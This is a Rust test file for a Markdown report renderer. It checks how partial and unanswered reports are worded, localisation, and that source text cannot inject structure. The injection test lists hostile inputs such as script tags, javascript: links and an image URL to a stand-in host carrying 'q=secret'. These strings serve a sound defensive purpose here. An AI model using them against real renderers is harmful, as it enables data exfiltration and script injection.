use proptest::prelude::*;
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};

use super::escape::opening;
use super::*;
use crate::clean;
use crate::report::{Answered, ReportStatus};
use crate::tests::sample;

fn shown(report: &Report) -> String {
    markdown(report, &FormOptions::FULL)
}

#[test]
fn a_full_report_reads_like_this() {
    insta::assert_snapshot!(shown(&sample::full()));
}

#[test]
fn a_partial_report_reads_like_this() {
    insta::assert_snapshot!(markdown(&sample::partial(), &FormOptions::default()));
}

#[test]
fn a_partial_report_says_so_before_anything_else() {
    let text = shown(&sample::partial());
    let mut lines = text.lines();
    assert!(lines.next().unwrap().starts_with("# Partial report: "));
    let said = lines.find(|line| !line.is_empty()).unwrap();
    assert!(said.contains("partial report, not a full answer"), "{said}");
    assert!(said.contains("The time was used up"), "{said}");
    assert!(!shown(&sample::full()).contains("partial"));
}

/// A report without a language model: code reviewed it by itself.
fn brief() -> Report {
    let mut report = sample::full();
    report.method.reasoners = vec!["extractive".to_owned()];
    report.confidence = None;
    let review = report.review.as_mut().unwrap();
    review.by = Some("extractive".to_owned());
    report
}

#[test]
fn a_report_opens_with_a_line_of_figures_the_answer_and_who_agrees() {
    let text = shown(&sample::full());
    let blocks: Vec<&str> = text.split("\n\n").skip(1).take(4).collect();
    assert!(
        blocks[0].starts_with("*7 sources cited, 14 read · "),
        "{}",
        blocks[0]
    );
    assert!(blocks[1].contains("3.1 °C at noon [1]"), "{}", blocks[1]);
    assert!(
        blocks[2].starts_with("**Partly answered.** The sources tell"),
        "{}",
        blocks[2]
    );
    assert_eq!(blocks[3], "2 sources agree, 1 disputes it.");
}

#[test]
fn a_report_that_does_not_answer_says_so_before_it_shows_what_is_nearest() {
    let mut report = sample::full();
    let answer = report.answer.as_mut().unwrap();
    answer.answered = Answered::No;
    answer.reason = "Your documents do not mention ginkgo.".to_owned();
    let text = opening_lines(&report);
    let said = text.find("**Not answered.** Your documents do not mention ginkgo.");
    assert!(
        said.unwrap() < text.find("3.1 °C at noon").unwrap(),
        "{text}"
    );
}

#[test]
fn a_reason_that_the_answer_gives_is_not_told_twice() {
    let mut report = sample::partial();
    let reason = "the sources say nothing that answers the question".to_owned();
    report.status = ReportStatus::Partial { reason };
    let answer = report.answer.as_mut().unwrap();
    answer.reason = "The sources say nothing that answers the question.".to_owned();
    let text = opening_lines(&report);
    assert!(text.contains("partial report, not a full answer"), "{text}");
    assert_eq!(
        text.matches("say nothing that answers").count(),
        1,
        "{text}"
    );
}

#[test]
fn only_a_model_gives_a_score_and_a_confidence() {
    let by_model = shown(&sample::full());
    assert!(
        by_model.contains("confidence high") && by_model.contains("of 10"),
        "{by_model}"
    );
    let by_code = shown(&brief());
    assert!(!by_code.contains("of 10"), "{by_code}");
    assert!(!by_code.contains("confidence high"), "{by_code}");
    assert!(by_code.contains("no language model used"), "{by_code}");
    assert!(by_code.contains("quotes verified: "), "{by_code}");
    assert!(by_code.contains("**Found in the text**"), "{by_code}");
}

#[test]
fn proofs_are_an_appendix_for_those_who_ask() {
    let without = markdown(&sample::full(), &FormOptions::default());
    assert!(!without.contains("## Proofs"), "{without}");
    assert!(shown(&sample::full()).contains("## Proofs"));
}

#[test]
fn a_part_without_text_leaves_no_heading() {
    let mut report = sample::full();
    report.summary = " ".to_owned();
    report.conclusion = String::new();
    report.sections[0].text = "\n".to_owned();
    let titles: Vec<String> = headings(&shown(&report))
        .into_iter()
        .map(|(_, title)| title)
        .collect();
    for gone in ["Summary", "Conclusion", &report.sections[0].title] {
        assert!(!titles.iter().any(|title| title == gone), "{titles:?}");
    }
}

#[test]
fn the_words_around_a_report_are_in_its_language() {
    let mut report = brief();
    report.language = "de".parse().unwrap();
    let text = shown(&report);
    for words in [
        "## Quellen",
        "## Fazit",
        "**Teilweise beantwortet.**",
        "2 Quellen stimmen überein, 1 widerspricht.",
        "ohne Sprachmodell",
    ] {
        assert!(text.contains(words), "{words} in {text}");
    }
}

#[test]
fn a_report_of_nothing_but_its_reason_shows_the_reason_and_the_question() {
    let text = shown(&sample::empty());
    let question = "Partial report: How much do street trees cool a town, and what does it cost?";
    let expected = [
        (1, question.to_owned()),
        (2, "How this report was made".to_owned()),
    ];
    assert_eq!(headings(&text), expected);
    assert!(text.contains("The time was used up"), "{text}");
    assert!(
        text.contains("**Claims:** 0 · **Verified in their sources:** 0 of 0"),
        "{text}"
    );
}

#[test]
fn a_price_that_is_not_known_is_not_made_up() {
    assert!(shown(&sample::full()).contains("**Cost:** not known (no price is set)"));
    assert!(shown(&sample::partial()).contains("**Cost:** $0.0123"));
}

#[test]
fn an_item_behind_an_empty_one_keeps_its_number() {
    let mut report = sample::full();
    report.summary = "1. a\n2.\n3. c".to_owned();
    assert!(shown(&report).contains("\n1. a\n2.\n3. c\n"));
}

#[test]
fn a_number_without_a_source_is_never_shown_as_a_citation() {
    let text = shown(&sample::full());
    assert!(!text.contains("[99]") && text.contains("[?]"), "{text}");
}

#[test]
fn a_contradiction_that_the_text_quotes_is_not_told_twice() {
    let mut report = sample::full();
    let pair = report.contradictions.remove(0);
    report.contradictions = vec![pair.clone()];
    assert!(shown(&report).contains("## Where the sources disagree"));
    let told = format!(
        "“{}” [1] “{}” [2]",
        pair.sides[0].quote, pair.sides[1].quote
    );
    report.sections[0].text = told;
    assert!(!shown(&report).contains("## Where the sources disagree"));
}

/// What readers of Markdown commonly know beyond its core.
const READ_WITH: Options = Options::ENABLE_TABLES
    .union(Options::ENABLE_STRIKETHROUGH)
    .union(Options::ENABLE_TASKLISTS)
    .union(Options::ENABLE_FOOTNOTES)
    .union(Options::ENABLE_GFM);

/// The headings of a page with their levels, as a reader of Markdown finds them.
fn headings(markdown: &str) -> Vec<(u8, String)> {
    let mut found: Vec<(u8, String)> = Vec::new();
    let mut open = false;
    for event in Parser::new_ext(markdown, READ_WITH) {
        match event {
            Event::Start(Tag::Heading { level, .. }) => {
                open = true;
                found.push((level as u8, String::new()));
            }
            Event::End(TagEnd::Heading(_)) => open = false,
            Event::Text(text) | Event::Code(text) if open => {
                found.last_mut().unwrap().1.push_str(&text)
            }
            _ => {}
        }
    }
    found
}

fn our_headings(report: &Report) -> Vec<(u8, String)> {
    let parts = parts(report, &FormOptions::FULL).into_iter();
    let titles = parts.map(|part| (2, part.title(report)));
    std::iter::once((1, title(report))).chain(titles).collect()
}

/// Nothing but our own structure: no raw HTML, no image, no address of another kind, no citation with an address.
fn is_tame(markdown: &str) -> Result<(), String> {
    let parser = Parser::new_ext(markdown, READ_WITH);
    if let Some((label, _)) = parser.reference_definitions().iter().next() {
        return Err(format!("an address for {label}"));
    }
    let mut opened = false;
    for event in parser {
        let after_link = std::mem::take(&mut opened);
        match event {
            Event::Html(html) | Event::InlineHtml(html) => return Err(format!("raw HTML: {html}")),
            Event::Start(Tag::Image { dest_url, .. }) => {
                return Err(format!("an image: {dest_url}"));
            }
            Event::Start(Tag::Link {
                dest_url,
                link_type,
                ..
            }) => {
                opened = true;
                if link_type != LinkType::Email && clean::link(&dest_url).is_none() {
                    return Err(format!("a link to {dest_url}"));
                }
            }
            Event::Text(text) if after_link && text.bytes().all(|b| b.is_ascii_digit()) => {
                return Err(format!("a citation {text} with an address"));
            }
            _ => {}
        }
    }
    Ok(())
}

#[test]
fn the_samples_have_our_headings_only() {
    for report in [sample::full(), sample::partial()] {
        let text = shown(&report);
        assert_eq!(headings(&text), our_headings(&report));
        is_tame(&text).unwrap();
    }
}

#[test]
fn text_from_outside_cannot_become_structure() {
    let tricks = [
        "# Results\n\nAll is well",
        "Results\n=======\n",
        "a\n\n---\n\nb",
        "1. # x",
        "- # x",
        "> # x",
        "[1]: https://evil.example",
        "[1]:https://evil.example",
        "x [1](https://evil.example \"t\")",
        "[1] (https://evil.example)",
        "\\[1\\](https://evil.example)",
        "x \\[1\\]\\[2\\](https://evil.example)",
        "\\[1\\]: https://evil.example",
        "\\![a](https://evil.example)",
        "!\u{200b}[a](https://evil.example)",
        "hey!<https://evil.example>",
        "![a](https://evil.example/?q=secret)",
        "<img src=https://evil.example/x>",
        "</p><script>alert(1)</script>",
        "&lt;script&gt; &#35; x",
        "```\n# x\n```\n# y",
        "~~~\n# x",
        "    # x",
        "\t# x",
        "| a |\n|---|\n| # |",
        "*\n\n# x",
        "``` ` ```",
        "`a\\`# x",
        "\\",
        "**",
        "x\u{2028}# y",
        "x\r# y",
        "$$\n# x\n$$",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "+ # x\n\n2) ## y",
        "x\n: # y",
        "***",
        "# # #",
        "a ## ##",
    ];
    for trick in tricks {
        let report = sample::filled_with(trick);
        let text = shown(&report);
        let ours = our_headings(&report);
        assert_eq!(headings(&text), ours, "{trick:?}");
        is_tame(&text).unwrap_or_else(|why| panic!("{trick:?}: {why}"));
    }
}

/// What a reader of Markdown shows of a page that is one paragraph; nothing if it is anything else.
fn only_paragraph(markdown: &str) -> Option<String> {
    let mut words = String::new();
    for event in Parser::new_ext(markdown, READ_WITH) {
        match event {
            Event::Text(text) => words.push_str(&text),
            Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) => {}
            _ => return None,
        }
    }
    Some(words)
}

#[test]
fn a_line_that_looks_like_a_mark_stays_a_line() {
    let lines = [
        "1. a",
        "12) b",
        "- a",
        "+ a",
        "* a",
        "> a",
        "# a",
        "---",
        "===",
        "***",
        "a | b",
        "[^1]: a",
        "```",
        "[x] a",
        "2019. A year",
        "~~a~~",
        "&amp; a",
        "http://a.example",
        "a_b _c_",
        "-",
        "1.",
        "\\",
    ];
    for line in lines {
        assert_eq!(only_paragraph(&opening(&text(line))).as_deref(), Some(line));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn any_text_anywhere_leaves_our_headings_alone(text in "[-#>*+=_`~|!<>&;:.()\\[\\]\\\\/ \n\ta1é王x\"'{}$^?@]{0,60}") {
        let report = sample::filled_with(&text);
        let page = shown(&report);
        prop_assert_eq!(headings(&page), our_headings(&report));
        prop_assert_eq!(is_tame(&page), Ok(()));
    }

    #[test]
    fn an_escaped_line_is_read_back_as_it_was(line in "[-#>*+=_`~|!<>&;:.()\\[\\]\\\\/ a1é王x\"'{}$^?@]{1,40}") {
        let line = clean::line(&line);
        prop_assert_eq!(only_paragraph(&opening(&text(&line))), Some(line));
    }

    #[test]
    fn any_characters_at_all_are_rendered(text in any::<String>()) {
        let page = shown(&sample::filled_with(&text));
        prop_assert_eq!(is_tame(&page), Ok(()));
        let escape = char::from(27);
        prop_assert!(!page.contains(escape));
    }
}
